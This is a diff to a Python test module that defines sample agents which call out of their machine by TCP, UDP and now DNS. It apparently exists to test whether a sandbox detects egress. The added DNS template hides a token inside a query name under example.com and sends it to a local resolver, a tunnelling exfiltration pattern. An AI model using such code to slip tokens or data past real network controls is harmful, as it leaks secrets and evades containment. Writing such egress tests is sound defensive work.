@@ -1,4 +1,4 @@
-"""Agents that call somebody outside of the machine they are shown: by TCP, by UDP, from a command and from a tool."""
+"""Agents that call somebody outside of the machine they are shown: by TCP, UDP and DNS, from a command and from a tool."""
 
 from __future__ import annotations
 
@@ -61,16 +61,29 @@ def _server(family: socket.AddressFamily, kind: socket.SocketKind) -> Iterator[t
             thread.join()
 
 
-def _calls_out(name: str, mechanism: str, family: socket.AddressFamily, kind: socket.SocketKind, *, command: bool) -> None:
-    host = "::1" if family == socket.AF_INET6 else "127.0.0.1"
-    code = f"""
+_CONNECTS = """
 import socket, time
-with socket.socket({int(family)}, {int(kind)}) as way_out:
+with socket.socket({family}, {kind}) as way_out:
     way_out.settimeout(3)
     way_out.connect(({host!r}, GIVEN["port"]))
     way_out.send(GIVEN["token"].encode())
     time.sleep(0.3)
 """
+_ASKS_FOR_A_NAME = """
+import socket, struct, time
+labels = b"".join(bytes([len(each)]) + each for each in (GIVEN["token"].encode(), b"example", b"com"))
+query = struct.pack(">6H", 1, 0x100, 1, 0, 0, 0) + labels + bytes([0, 0, 1, 0, 1])
+with socket.socket({family}, {kind}) as resolver:
+    resolver.sendto(query, ({host!r}, GIVEN["port"]))
+    time.sleep(0.3)
+"""
+
+
+def _calls_out(
+    name: str, mechanism: str, family: socket.AddressFamily, kind: socket.SocketKind, *, command: bool, text: str = _CONNECTS
+) -> None:
+    host = "::1" if family == socket.AF_INET6 else "127.0.0.1"
+    code = text.format(family=int(family), kind=int(kind), host=host)
     CALLING_OUT.add(
         name,
         mechanism,
@@ -88,3 +101,5 @@ _calls_out("udp_of_command", "UDP, of a command", socket.AF_INET, socket.SOCK_DG
 _calls_out("ipv6_of_command", "TCP over IPv6, of a command", socket.AF_INET6, socket.SOCK_STREAM, command=True)
 _calls_out("tcp_of_tool", "TCP, of a tool", socket.AF_INET, socket.SOCK_STREAM, command=False)
 _calls_out("udp_of_tool", "UDP, of a tool", socket.AF_INET, socket.SOCK_DGRAM, command=False)
+_calls_out("name_of_command", "DNS, of a command", socket.AF_INET, socket.SOCK_DGRAM, command=True, text=_ASKS_FOR_A_NAME)
+_calls_out("name_of_tool", "DNS, of a tool", socket.AF_INET, socket.SOCK_DGRAM, command=False, text=_ASKS_FOR_A_NAME)
